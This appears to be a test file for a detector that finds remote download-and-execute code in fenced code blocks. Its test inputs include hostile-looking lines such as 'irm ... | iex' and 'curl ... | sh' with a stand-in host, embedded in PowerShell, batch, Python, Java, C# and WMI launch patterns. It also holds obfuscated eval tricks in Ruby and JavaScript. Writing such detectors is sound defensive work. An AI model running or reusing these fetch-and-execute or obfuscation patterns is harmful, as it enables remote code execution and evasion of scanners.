import { afterAll, expect, test } from "vitest";
import { createNodeDetector } from "../../../src/host/node.js";

const detector = await createNodeDetector({ profile: "extended" });
afterAll(() => {
  detector.dispose();
});

/** Returns the text of each span in a fenced code block. */
function labelled(tag: string, code: string): readonly string[] {
  const text = `\`\`\`${tag}\n${code}\n\`\`\`\n`;
  return detector.detect(text).spans.map(([start, end]) => text.slice(start, end));
}

const RUN = "irm https://get.example/a | iex";
const KEPT = "irm https://get.example/a -OutFile b";
const BATCH = `powershell -c \\"${RUN}\\"`;
const HARMLESS = `powershell -c \\"${KEPT}\\"`;

test.each([
  (code: string) => `Set-Content f.ps1 '${code}'; powershell -File f.ps1`,
  (code: string) => `Set-Content -Path f.ps1 -Value '${code}'\npowershell -NoProfile -File f.ps1`,
  (code: string) => `Add-Content -Force f.ps1 '${code}'\n& .\\f.ps1`,
  (code: string) => `'${code}' | Out-File -Encoding ascii f.ps1\npowershell -File f.ps1`,
  (code: string) => `'${code}' > f.ps1\npowershell -File f.ps1`,
  (code: string) => `Set-Content f.ps1 $other\nAdd-Content f.ps1 '${code}'\npwsh -File f.ps1`,
  (code: string) => `$code = '${code}'\nOut-File -InputObject $code -FilePath f.ps1\n.\\f.ps1`,
])("a script that PowerShell writes is evaluated only if it is run: case %#", (script) => {
  expect(labelled("powershell", script(RUN))).toEqual([RUN]);
  expect(labelled("powershell", script(KEPT))).toEqual([]);
  expect(labelled("powershell", script(RUN).replace(/\n.*$|;.*$/, ""))).toEqual([]);
});

test.each([
  ["python", (code: string) => `open("a.bat", "w").write("${code}")\nos.system("cmd /c a.bat")`],
  [
    "python",
    (code: string) => `Path("a.cmd").write_text("${code}")\nsubprocess.run(["cmd", "/c", "a.cmd"])`,
  ],
  [
    "java",
    (code: string) =>
      `Files.writeString(Path.of("a.bat"), "${code}");\nRuntime.getRuntime().exec("cmd /c a.bat");`,
  ],
  [
    "csharp",
    (code: string) => `File.WriteAllText("a.bat", "${code}");\nProcess.Start("cmd", "/c a.bat");`,
  ],
])("a batch file that %s writes is evaluated only if cmd runs it", (tag, program) => {
  expect(labelled(tag, program(BATCH))).toHaveLength(1);
  expect(labelled(tag, program(HARMLESS))).toEqual([]);
  expect(labelled(tag, program(BATCH).replace(/a(?=\.(?:bat|cmd)"\W*$)|(?<=\/c )a/, "b"))).toEqual(
    [],
  );
});

test("a script that is overwritten contains only the last content", () => {
  const twice = (code: string): string =>
    `Set-Content f.ps1 '${RUN}'\nSet-Content f.ps1 ${code}\npowershell -File f.ps1`;
  expect(labelled("powershell", twice(`'${RUN}'`))).toEqual([RUN]);
  expect(labelled("powershell", twice("$other"))).toEqual([]);
});

test("a batch file can be run by its name without a path, but any other script only by its path", () => {
  const line = "curl https://get.example/a | sh";
  expect(labelled("sh", `echo '${line}' > a.bat\na.bat`)).toEqual([line]);
  expect(labelled("sh", `echo '${line}' > a.sh\n./a.sh`)).toEqual([line]);
  expect(labelled("sh", `echo '${line}' > a.sh\na.sh`)).toEqual([]);
});

test.each([
  ["define_method(:run) { |c| eval(c) }\nrun(Base64.decode64(p))", 1],
  ["define_method(:run) { |c| puts(c) }\nrun(Base64.decode64(p))", 0],
  ["define_singleton_method(:run) do |c|\n  eval(c)\nend\nrun(URI.open(u).read)", 1],
  ["define_method(:run) { |c| eval(c) }\nother(Base64.decode64(p))", 0],
])("a Ruby method that define_method defines is evaluated: %s", (code, count) => {
  expect(labelled("ruby", code)).toHaveLength(count);
});

test.each([
  ["[].filter.constructor(atob(x))()", 1],
  ['[]["filter"]["constructor"](atob(x))()', 1],
  ['"".at.constructor(atob(x))()', 1],
  ["[].length.constructor(atob(x))", 0],
  ["[].constructor(atob(x))", 0],
  ["[].filter(atob(x))", 0],
  ['globalThis[["al", "ev"].reverse().join("")](atob(x))', 1],
  ['globalThis[["ev", "al"].reverse().join("")](atob(x))', 0],
  ['globalThis[["ert", "al"].reverse().join("")](atob(x))', 0],
])("property names that JavaScript computes are evaluated: %s", (code, count) => {
  expect(labelled("javascript", code)).toHaveLength(count);
});

test.each([
  ["CommandLine", `powershell -c \\"${RUN}\\"`, 1],
  ["CommandLine", "notepad.exe", 0],
  ["CurrentDirectory", `powershell -c \\"${RUN}\\"`, 0],
])("the WMI parameter %s with the value %s has %i findings", (name, line, count) => {
  const code = [
    'var type = new ManagementClass("Win32_Process");',
    'var given = type.GetMethodParameters("Create");',
    `given["${name}"] = "${line}";`,
    'type.InvokeMethod("Create", given, null);',
  ].join("\n");
  expect(labelled("csharp", code)).toHaveLength(count);
});

test.each([
  ['"curl https:", "get.example | sh"', '"curl https:", "get.example | sh"'],
  ['base, "curl https:", "get.example | sh"', '"curl https:", "get.example | sh"'],
  ['"curl https:", base, "get.example | sh"', '"curl https:", base, "get.example | sh"'],
])("the known parts of a path keep their spans: Path(%s)", (parts, span) => {
  const code = `import os\nfrom pathlib import Path\nos.system(Path(${parts}))`;
  expect(labelled("python", code)).toEqual([span]);
});
